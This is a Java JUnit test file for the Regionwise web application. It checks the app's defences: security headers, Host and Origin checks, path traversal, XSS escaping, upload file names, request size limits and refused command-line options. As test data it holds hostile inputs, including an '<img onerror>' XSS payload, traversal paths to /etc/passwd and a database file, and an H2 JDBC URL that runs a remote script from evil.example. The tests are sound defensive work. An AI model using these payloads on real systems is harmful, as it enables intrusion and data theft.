package org.regionwise.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.regionwise.Containment.assertContains;
import static org.regionwise.Containment.assertLacks;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.net.Socket;
import java.net.http.HttpHeaders;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.regionwise.cli.RegionwiseCommand;
import org.regionwise.web.Visitor.Sent;

/** What keeps other sites, other machines and hostile files out. */
class GuardsTest {
    private static final List<String> HEADERS = List.of(
            "content-security-policy", "x-content-type-options", "referrer-policy", "cross-origin-resource-policy");
    private static final String HOSTILE = "<img src=x onerror=alert(1)>";
    private static final String HOSTILE_ESCAPED = "&lt;img src=x onerror=alert(1)&gt;";

    @AutoClose
    private static RunningApplication application;

    private static Visitor visitor;
    private static Path around;

    @BeforeAll
    static void start(@TempDir Path folder) {
        around = folder;
        application = RunningApplication.on(folder.resolve("deep/inside/data"));
        visitor = new Visitor(application);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/uploads/new",
                "/surveys/2",
                "/surveys/2/analyses/new",
                "/surveys/2/compare?analysis=2&analysis=3",
                "/surveys/2/compare",
                "/analyses/3",
                "/analyses/3/regions.csv",
                "/analyses/3/regions-tidy.csv",
                "/analyses/3/regions-sdmx.csv",
                "/analyses/3/regions.xlsx",
                "/analyses/3/report.html",
                "/api/analyses/3/result",
                "/api/analyses/99/result",
                "/regionwise.css",
                "/regionwise.js",
                "/icon.svg",
                "/nothing",
                "/surveys/99"
            })
    void everyAnswerTellsTheBrowserWhatItMustNotDo(String path) {
        HttpHeaders headers = visitor.get(path).headers();
        String policy = headers.firstValue("Content-Security-Policy").orElseThrow();
        assertTrue(policy.contains("default-src 'self'"), policy);
        for (String door :
                List.of("object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'")) {
            assertTrue(policy.contains(door), policy);
        }
        assertFalse(policy.contains("unsafe-") || policy.contains("http") || policy.contains("*"), policy);
        assertEquals("nosniff", headers.firstValue("X-Content-Type-Options").orElseThrow());
        assertEquals("same-origin", headers.firstValue("Referrer-Policy").orElseThrow());
        assertTrue(headers.firstValue("Server").isEmpty());
        assertTrue(headers.firstValue("Access-Control-Allow-Origin").isEmpty());
    }

    @Test
    void noPageHasInlineScriptsOrStyles() {
        for (String path :
                List.of("/", "/uploads/new", "/surveys/2", "/surveys/2/analyses/new", "/analyses/3", "/nothing")) {
            String page = visitor.get(path).body();
            assertFalse(page.matches("(?s).*<script(?! src=\"/).*"), path);
            assertFalse(
                    page.contains("<style") || page.contains(" style=\"") || page.matches("(?s).* on[a-z]+=\".*"),
                    path);
        }
    }

    @ParameterizedTest
    @CsvSource({
        "GET / HTTP/1.1, evil.example, 403",
        "GET /regionwise.css HTTP/1.1, evil.example, 403",
        "GET /analyses/3/regions.csv HTTP/1.1, localhost.evil.example, 403",
        "GET / HTTP/1.1, 127.0.0.1.evil.example:80, 403",
        "GET / HTTP/1.1, 192.168.0.1, 403",
        "GET / HTTP/1.0, , 403",
        "GET http://localhost/ HTTP/1.1, evil.example, 400",
        "GET / HTTP/1.1, localhost, 200",
        "GET / HTTP/1.1, LOCALHOST:1234, 200",
        "GET / HTTP/1.1, 127.0.0.1, 200",
        "GET / HTTP/1.1, [::1]:7070, 200"
    })
    void onlyRequestsMeantForThisMachineAreAnswered(String line, String host, int status) throws IOException {
        String answer = raw(line, host);
        assertTrue(answer.startsWith("HTTP/1.1 " + status + " "), answer);
        assertHeaders(answer);
        if (status != 200) {
            assertFalse(answer.contains("Harassment"), answer);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/../../etc/passwd",
                "/..%2f..%2fetc%2fpasswd",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/surveys/..%2f..%2fregionwise.mv.db",
                "/analyses/%2e%2e%2f1/regions.csv",
                "/uploads/..%2f..",
                "/uploads/..%5c..%5cx/progress",
                "/public/regionwise.css",
                "/templates/home/home.html",
                "/migrations/V1__surveys.sql",
                "/WEB-INF/web.xml",
                "/regionwise.css/..%2f..%2fsimplelogger.properties",
                "/%",
                "/%00",
                "/surveys/%ff"
            })
    void pathsLeadNowhereElse(String path) throws IOException {
        String answer = raw("GET " + path + " HTTP/1.1", "localhost");
        assertTrue(answer.startsWith("HTTP/1.1 404 ") || answer.startsWith("HTTP/1.1 400 "), answer);
        assertHeaders(answer);
    }

    @ParameterizedTest
    @CsvSource({
        "Sec-Fetch-Site, cross-site, 403",
        "Sec-Fetch-Site, same-site, 403",
        "Sec-Fetch-Site, same-origin, 302",
        "Origin, http://evil.example, 403",
        "Origin, null, 403",
        "Origin, https://localhost, 403",
        "Origin, own, 302"
    })
    void onlyOurOwnPagesChangeAnything(String header, String value, int status) {
        String page = visitor.upload(Sent.survey("region,y\nA,1\nB,0\n"));
        String said = value.equals("own") ? application.address() : value;
        assertEquals(
                status,
                visitor.send(visitor.form(page + "/cancel").header(header, said), BodyHandlers.ofString())
                        .statusCode());
        assertEquals(status == 302, visitor.get(page).body().contains("Upload cancelled"));
        assertEquals(
                status,
                visitor.send(
                                visitor.multipart(Sent.survey("region,y\nA,1\n"))
                                        .header(header, said),
                                BodyHandlers.ofString())
                        .statusCode());
    }

    @ParameterizedTest
    @CsvSource({
        "/analyses/3/report.pdf, cross-site, no-cors, image, 403",
        "/analyses/3/charts/map.svg, cross-site, no-cors, image, 403",
        "/analyses/3, cross-site, navigate, iframe, 403",
        "/analyses/3/what-if, same-site, no-cors, script, 403",
        "/regionwise.css, cross-site, no-cors, style, 403",
        "/analyses/3, cross-site, navigate, document, 200",
        "/analyses/3, same-origin, cors, empty, 200",
        "/analyses/3, none, navigate, document, 200"
    })
    void noPageElsewhereLoadsAnythingOfOurs(String path, String site, String mode, String destination, int status) {
        HttpResponse<String> answer = visitor.send(
                visitor.to(path)
                        .header("Sec-Fetch-Site", site)
                        .header("Sec-Fetch-Mode", mode)
                        .header("Sec-Fetch-Dest", destination),
                BodyHandlers.ofString());
        assertEquals(status, answer.statusCode());
    }

    @ParameterizedTest
    @CsvSource({"GET, POST", "GET, DELETE", "POST, GET", "POST, HEAD"})
    void aRequestIsWhatItsFirstLineSays(String method, String override) {
        String page = visitor.upload(Sent.survey("region,y\nA,1\nB,0\n"));
        HttpResponse<String> answer = visitor.send(
                visitor.to(page + "/cancel")
                        .method(method, BodyPublishers.noBody())
                        .header("Sec-Fetch-Site", "cross-site")
                        .header("Sec-Fetch-Mode", "navigate")
                        .header("Sec-Fetch-Dest", "document")
                        .header("X-HTTP-Method-Override", override),
                BodyHandlers.ofString());
        assertEquals(method.equals("GET") ? 404 : 403, answer.statusCode());
        assertLacks("Upload cancelled", visitor.get(page).body());
    }

    @Test
    void theNameOfAnUploadIsNeverAPath() throws IOException {
        for (String name :
                List.of("../../../escaped.csv", "/tmp/escaped.csv", "..\\..\\escaped.csv", "..", "a/../escaped.csv")) {
            String page = visitor.upload(new Sent("survey", name, "region,y\nA,1\nB,0\n"));
            assertTrue(visitor.get(page).statusCode() == 200, name);
            assertFalse(visitor.get(page).body().contains("../"), name);
        }
        try (Stream<Path> files = Files.walk(around)) {
            assertTrue(
                    files.noneMatch(file -> file.getFileName().toString().contains("escaped")),
                    "written outside of the folder");
        }
        assertFalse(Files.exists(Path.of("/tmp/escaped.csv")));
    }

    @Test
    void hostileTextIsShownAsText() {
        String column = HOSTILE.replace(' ', '\u00A0') + "'\"&";
        String page = visitor.upload(
                new Sent(
                        "survey",
                        "x" + HOSTILE + ".csv",
                        "region,\"" + column.replace("\"", "\"\"") + "\",y\n" + (HOSTILE + ",1,</script>\n").repeat(3)
                                + "B,0,no\nB,1,no\n"),
                new Sent(
                        "regions",
                        HOSTILE + ".csv",
                        "region,name," + HOSTILE + "\n" + HOSTILE + "," + HOSTILE + ",1\nB,,2\nC,,4\n"));
        assertSafe(visitor.get(page).body());
        visitor.post(
                page + "/columns",
                "name",
                HOSTILE,
                "region",
                "region",
                "outcome",
                "y",
                "key",
                "region",
                "label",
                "name");
        visitor.await(page);
        assertSafe(visitor.get(page).body());
        String survey = visitor.store(page, "value", "</script>", "meaning.0", "yes", "value", "no", "meaning.1", "no");
        assertSafe(visitor.get(survey).body());
        assertSafe(visitor.get(survey + "/analyses/new").body());
        String[] asked = {
            "outcome",
            "y",
            "value",
            "</script>",
            "meaning.0",
            "yes",
            "value",
            "no",
            "meaning.1",
            "no",
            "level",
            "95",
            "points",
            "15",
            "title",
            HOSTILE
        };
        String first = visitor.analyse(survey, asked);
        String second = visitor.analyse(survey, asked);
        assertSafe(visitor.get(first).body());
        assertSafe(visitor.get(first + "/report.html").body());
        assertSafe(visitor.get("/").body());
        assertSafe(
                visitor.get(survey + "/compare?analysis=" + first.substring(10) + "&analysis=" + second.substring(10))
                        .body());
        HttpResponse<String> refused = visitor.post(survey + "/analyses", "outcome", "y", "value", HOSTILE);
        assertEquals(422, refused.statusCode());
        assertSafe(refused.body());
        assertLacks(
                "<",
                visitor.get(first + "/regions.csv")
                        .headers()
                        .firstValue("Content-Disposition")
                        .orElseThrow());
    }

    private static void assertSafe(String page) {
        // an end of a script in somebody's text would leave one over, be it in a script or beside
        String withoutScripts = page.replaceAll("(?s)<script[^>]*>.*?</script>", "");
        assertFalse(withoutScripts.contains("</script>"), page);
        assertFalse(withoutScripts.contains("<img src=x"), page);
        assertTrue(page.contains(HOSTILE_ESCAPED) || page.contains("&lt;img"), page);
    }

    @Test
    void theWayBackStaysHere() {
        for (String from : List.of("http://evil.example/", application.address() + "//evil.example/x")) {
            String page = visitor.send(visitor.to("/nothing").header("Referer", from), BodyHandlers.ofString())
                    .body();
            assertFalse(page.contains("href=\"//") || page.contains("href=\"http"), page);
        }
    }

    @Test
    void formsAreBounded() {
        String large = "outcome=harassed_6m&value=" + "a".repeat(2_000_000);
        for (boolean lengthIsTold : new boolean[] {true, false}) {
            var body = lengthIsTold
                    ? BodyPublishers.ofString(large)
                    : BodyPublishers.fromPublisher(BodyPublishers.ofString(large));
            HttpResponse<String> answer = visitor.send(
                    visitor.to("/surveys/2/analyses")
                            .header("Content-Type", "application/x-www-form-urlencoded")
                            .POST(body),
                    BodyHandlers.ofString());
            assertEquals(413, answer.statusCode());
        }
        HttpResponse<String> broken = visitor.send(
                visitor.to("/uploads")
                        .header("Content-Type", "multipart/form-data; boundary=x")
                        .POST(BodyPublishers.ofString("--x\r\nnothing of the kind")),
                BodyHandlers.ofString());
        assertEquals(400, broken.statusCode());
    }

    @ParameterizedTest
    @CsvSource({
        "--host, 0.0.0.0, without accounts only this machine",
        "--host, 192.168.0.1, without accounts only this machine",
        "--database, jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example', semicolon",
        "--database, jdbc:h2:tcp://evil.example/x, must be",
        "--database, jdbc:mysql://localhost/x, must be",
        "--data, a;INIT=x, semicolon"
    })
    void dangerousOptionsAreRefused(String option, String value, String said) {
        ByteArrayOutputStream errors = new ByteArrayOutputStream();
        PrintStream print = new PrintStream(errors, true, StandardCharsets.UTF_8);
        int code =
                RegionwiseCommand.execute(new String[] {"serve", "--port", "0", option, value}, Map.of(), print, print);
        assertEquals(2, code);
        assertContains(said, errors.toString(StandardCharsets.UTF_8));
    }

    private static void assertHeaders(String answer) {
        String lower = answer.toLowerCase(java.util.Locale.ROOT);
        HEADERS.forEach(header -> assertTrue(lower.contains("\r\n" + header + ": "), header + "\n" + answer));
    }

    private static String raw(String line, String host) throws IOException {
        try (Socket socket = new Socket("127.0.0.1", application.port())) {
            socket.setSoTimeout(10_000);
            String request =
                    line + "\r\n" + (host == null ? "" : "Host: " + host + "\r\n") + "Connection: close\r\n\r\n";
            socket.getOutputStream().write(request.getBytes(StandardCharsets.US_ASCII));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
